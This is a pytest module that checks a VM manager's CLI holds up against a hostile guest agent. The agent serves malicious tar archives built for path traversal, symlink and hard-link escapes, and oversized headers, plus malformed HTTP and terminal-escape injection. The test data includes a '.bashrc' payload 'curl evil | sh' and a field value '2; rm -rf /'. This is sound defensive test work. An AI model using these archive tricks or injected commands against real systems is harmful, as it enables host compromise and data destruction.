"""The guest is hostile: vm cp, exec, health and ports against a guest that attacks the host.

First with the unmodified guest (the real agent; root in the guest runs only
mkdir, ln and echo through ``vm exec``), then with the hostile agent fixture
answering whatever an attacker would. Every attack must leave the host
untouched and end in one clear line, on any Python: ``make test-debian-python``
(part of ``make test``) runs this module again with everything on Debian's
``/usr/bin/python3`` (3.11.2, no tarfile extraction filters).
"""

from __future__ import annotations

import json
import os
import subprocess
from pathlib import Path

import pytest

from pytest_banger import wait_until
from pytest_banger.hostile_agent import (
    archive_reply,
    exit_reply,
    frame,
    json_reply,
    make_tar,
    raw_reply,
    stream_reply,
)
from pytest_banger.simhost import console_script

pytestmark = [pytest.mark.net, pytest.mark.slow]

VM = "hg"


def banger(host, *args: str, timeout: float = 120) -> subprocess.CompletedProcess:
    """The CLI next to this interpreter (``make test-debian-python``: Debian's python3)."""
    return subprocess.run(
        [console_script("banger"), *args],
        env=host.env,
        stdin=subprocess.DEVNULL,
        capture_output=True,
        text=True,
        timeout=timeout,
        check=False,
    )


def snapshot(root: Path) -> dict[str, tuple]:
    out: dict[str, tuple] = {}
    for path in sorted(root.rglob("*")):
        st = path.lstat()
        rel = str(path.relative_to(root))
        if path.is_symlink():
            out[rel] = ("link", os.readlink(path))
        elif path.is_dir():
            out[rel] = ("dir", st.st_mode)
        else:
            out[rel] = ("file", st.st_mode, path.read_bytes(), st.st_ino, st.st_nlink)
    return out


@pytest.fixture(scope="module")
def vm(host):
    """One running VM for the module."""
    host.cli("vm", "create", VM, "--cpus", "1", "--memory", "256")
    return VM


@pytest.fixture
def places(tmp_path):
    """A destination and a host directory outside it that must stay untouched."""
    dest, outside = tmp_path / "dest", tmp_path / "outside"
    dest.mkdir()
    outside.mkdir()
    (outside / "precious").write_text("keep me\n")
    return dest, outside


def one_error_line(result: subprocess.CompletedProcess) -> str:
    assert result.returncode != 0, result
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1, result.stderr
    assert "internal error" not in lines[0] and "Traceback" not in result.stderr
    return lines[0]


# -- the unmodified guest --------------------------------------------------------------


def test_symlink_planted_by_the_real_guest_is_not_followed(host, vm, places):
    dest, outside = places
    before = snapshot(outside)
    script = (
        "mkdir -p /tmp/a/top /tmp/b/top/s"
        f" && ln -s {outside} /tmp/a/top/s"
        " && echo PWNED > /tmp/b/top/s/evil.txt"
    )
    assert banger(host, "vm", "exec", vm, "--", "sh", "-c", script).returncode == 0
    first = banger(host, "vm", "cp", f"{vm}:/tmp/a/top", f"{dest}/")
    assert first.returncode == 0, first.stderr
    assert os.readlink(dest / "top" / "s") == str(outside)  # kept as a symlink
    second = banger(host, "vm", "cp", f"{vm}:/tmp/b/top", f"{dest}/")
    line = one_error_line(second)
    assert line.startswith("banger: error: vm cp: refusing archive member 'top/s'"), line
    assert "not followed" in line and f"nothing was written to {dest}/" in line
    assert snapshot(outside) == before
    assert not (outside / "evil.txt").exists()


# -- a hostile agent: archives ------------------------------------------------------------


def test_hard_link_then_same_name_does_not_overwrite_a_host_file(
    host, vm, places, banger_hostile_agent
):
    dest, outside = places
    before = snapshot(outside)
    agent = banger_hostile_agent(host, vm)
    for target in (str(outside / "precious"), "../outside/precious", "top/nothing"):
        agent.on(
            "/files/get",
            archive_reply(
                make_tar(("dir", "top"), ("hard", "top/h", target), ("file", "top/h", b"PWNED"))
            ),
        )
        line = one_error_line(banger(host, "vm", "cp", f"{vm}:/top", str(dest)))
        assert "refusing archive member 'top/h'" in line, line
        assert snapshot(outside) == before
        assert list(dest.iterdir()) == []


def test_absolute_and_dotdot_members_write_nowhere(host, vm, places, banger_hostile_agent):
    dest, outside = places
    before = snapshot(outside)
    agent = banger_hostile_agent(host, vm)
    for name, why in (
        (str(outside / "abs.txt"), "absolute path"),
        ("top/../../outside/up.txt", "'..'"),
    ):
        agent.on(
            "/files/get",
            archive_reply(make_tar(("file", "top/ok", b"ok"), ("file", name, b"PWNED"))),
        )
        line = one_error_line(banger(host, "vm", "cp", f"{vm}:/top", str(dest)))
        assert f"refusing archive member {name!r}" in line and why in line, line
        assert snapshot(outside) == before
        assert list(dest.iterdir()) == []  # the member before it is undone too


def test_members_outside_the_requested_name_are_refused(host, vm, places, banger_hostile_agent):
    dest, _ = places
    (dest / ".bashrc").write_text("mine\n")
    agent = banger_hostile_agent(host, vm)
    agent.on(
        "/files/get",
        archive_reply(make_tar(("file", "notes", b"ok"), ("file", ".bashrc", b"curl evil | sh"))),
    )
    line = one_error_line(banger(host, "vm", "cp", f"{vm}:/root/notes", str(dest)))
    assert "refusing archive member '.bashrc': it is outside the requested 'notes'" in line
    assert (dest / ".bashrc").read_text() == "mine\n"
    assert not (dest / "notes").exists()


def test_devices_fifos_and_symlinks_out_through_the_same_archive(
    host, vm, places, banger_hostile_agent
):
    dest, outside = places
    before = snapshot(outside)
    agent = banger_hostile_agent(host, vm)
    cases = [
        (make_tar(("dir", "top"), ("chr", "top/null")), "'top/null': it is a character device"),
        (make_tar(("dir", "top"), ("fifo", "top/p")), "'top/p': it is a FIFO"),
        (
            make_tar(("sym", "top", str(outside)), ("file", "top/precious", b"PWNED")),
            "'top/precious'",
        ),
    ]
    for archive, why in cases:
        agent.on("/files/get", archive_reply(archive))
        line = one_error_line(banger(host, "vm", "cp", f"{vm}:/top", str(dest)))
        assert why in line, line
        assert snapshot(outside) == before
        assert list(dest.iterdir()) == []


def test_lying_stream_headers_and_endless_streams_are_bounded(
    host, vm, places, banger_hostile_agent
):
    dest, _ = places
    agent = banger_hostile_agent(host, vm)
    # a size header that is no number: only the progress bar used it
    agent.on(
        "/files/get",
        archive_reply(make_tar(("file", "top", b"fine\n")), headers={"X-Banger-Size": "lots"}),
    )
    ok = banger(host, "vm", "cp", f"{vm}:/top", str(dest))
    assert ok.returncode == 0, ok.stderr
    assert (dest / "top").read_bytes() == b"fine\n"
    # a pax header claiming 1 GiB, then data that never ends
    huge = bytearray(make_tar(("file", "x", b"")))[:512]
    huge[156:157] = b"x"
    huge[124:136] = b"%011o\0" % (1 << 30)
    huge[148:156] = b" " * 8
    huge[148:156] = b"%06o\0 " % sum(huge)

    def endless():
        yield frame(b"D", bytes(huge))
        while True:
            yield frame(b"D", b"9" * 65536)

    agent.on("/files/get", stream_reply(endless()))
    line = one_error_line(banger(host, "vm", "cp", f"{vm}:/x", str(dest / "sub-not-there")))
    assert "1073741824-byte metadata header" in line, line
    assert not (dest / "sub-not-there").exists()


# -- a hostile agent: plain replies and exec ------------------------------------------------


def test_exit_frames_of_the_wrong_shape_are_one_line_and_255(host, vm, banger_hostile_agent):
    agent = banger_hostile_agent(host, vm)
    for info, why in (
        ({"exit_code": "zero"}, "bad exit code 'zero'"),
        ({"exit_code": 1 << 40}, "bad exit code"),
        ({"exit_code": None, "signal": -9}, "bad signal number '-9'"),
        ({"exit_code": 0, "error": ["x"]}, "error is not a string"),
    ):
        agent.on("/exec", exit_reply(info))
        result = banger(host, "vm", "exec", vm, "--", "true")
        assert result.returncode == 255, (info, result)
        line = one_error_line(result)
        assert why in line, line
    # a guest's error text cannot drive the user's terminal
    agent.on("/exec", exit_reply({"exit_code": 7, "error": "\x1b]0;owned\x07\x1b[2Jgone\nline2"}))
    result = banger(host, "vm", "exec", vm, "--", "true")
    assert result.returncode == 7
    assert "\x1b" not in result.stderr and "\x07" not in result.stderr
    assert one_error_line(result) == "banger: error: ?]0;owned??[2Jgone?line2"


def test_health_and_ports_answers_are_checked(host, vm, banger_hostile_agent):
    agent = banger_hostile_agent(host, vm)
    agent.on(
        "/healthz",
        json_reply(
            {
                "status": "ok",
                "name": "someone-else",
                "state": "stopped",
                "agent_version": "2; rm -rf /",
                "hostname": "\x1b[31mred\x1b[0m" + "h" * 1000,
                "uptime_seconds": "forever",
            }
        ),
    )
    body = json.loads(banger(host, "vm", "health", vm, "--json").stdout)[0]
    assert body["name"] == vm and body["state"] == "running"
    assert body["agent_version"] is None and body["uptime_seconds"] is None
    assert "\x1b" not in body["hostname"] and len(body["hostname"]) <= 256
    shown = banger(host, "vm", "health", vm)
    assert shown.returncode == 0 and "\x1b" not in shown.stdout
    rows = [
        {"proto": "tcp", "address": "0.0.0.0", "port": 99999},  # no such port
        {"proto": "sctp", "address": "0.0.0.0", "port": 80},
        {"proto": "tcp", "address": "not-an-ip", "port": 81},
        "not a row",
        {"proto": "udp", "address": "127.0.0.1", "port": 53, "command": "\x1b[2J" + "c" * 5000},
    ]
    agent.on("/ports", json_reply({"ports": rows}))
    ports = json.loads(banger(host, "vm", "ports", vm, "--json").stdout)
    assert [(r["proto"], r["port"]) for r in ports] == [("udp", 53)]
    assert "\x1b" not in ports[0]["command"] and len(ports[0]["command"]) <= 1030
    for bad in ({"ports": "many"}, [1, 2], {"ports": [[[[]]]]}):
        agent.on("/ports", json_reply(bad))
        result = banger(host, "vm", "ports", vm)
        if bad == {"ports": [[[[]]]]}:
            assert result.returncode == 0, result.stderr
            continue
        assert "/ports answer is not" in one_error_line(result)


def test_broken_http_from_the_agent_is_one_line(host, vm, banger_hostile_agent):
    agent = banger_hostile_agent(host, vm)
    for data, why in (
        (b"HTTP/1.1 200 OK\r\nContent-Length: -1\r\n\r\n{}", "bad Content-Length '-1'"),
        (b"HTTP/1.1 200 OK\r\nContent-Length: 999999999999\r\n\r\n", "at most 8388608"),
        (b"SSH-2.0-OpenSSH\r\n", "bad status line"),
        (b"HTTP/1.1 200 OK\r\nContent-Length: 30\r\n\r\n" + b"[" * 30, "non-JSON body"),
    ):
        agent.on("/healthz", raw_reply(data))
        line = one_error_line(banger(host, "vm", "health", vm))
        assert why in line, line
    deep = b"[" * 100_000 + b"]" * 100_000
    agent.on(
        "/healthz", raw_reply(b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n" % len(deep) + deep)
    )
    assert "non-JSON body" in one_error_line(banger(host, "vm", "health", vm))


# -- the serial console ------------------------------------------------------------------


def test_a_guest_flooding_its_console_cannot_fill_the_host_disk(host, vm):
    """Root in the real guest writes 24 MB to its console; the host keeps at most 16 MiB."""
    from banger_core.lifecycle import console

    log = Path(host.json("vm", "show", vm)["console_log"])
    flood = "head -c 24000000 /dev/zero | tr '\\0' A > /dev/console; echo done > /dev/console"
    result = banger(host, "vm", "exec", vm, "--", "sh", "-c", flood, timeout=300)
    assert result.returncode == 0, result.stderr
    marker = b"[banger: console log cut to its last "

    def cut() -> bool:  # the daemon's watch loop cuts it every couple of seconds
        with open(log, "rb") as fh:
            head = fh.read(len(marker))
        return log.stat().st_size <= console.MAX_BYTES and head == marker

    wait_until(
        cut,
        timeout=30,
        interval=0.2,
        what="the daemon to cut the console log",
        diagnostics=lambda: f"size {log.stat().st_size}",
    )
    assert log.read_bytes().rstrip().endswith(b"done")
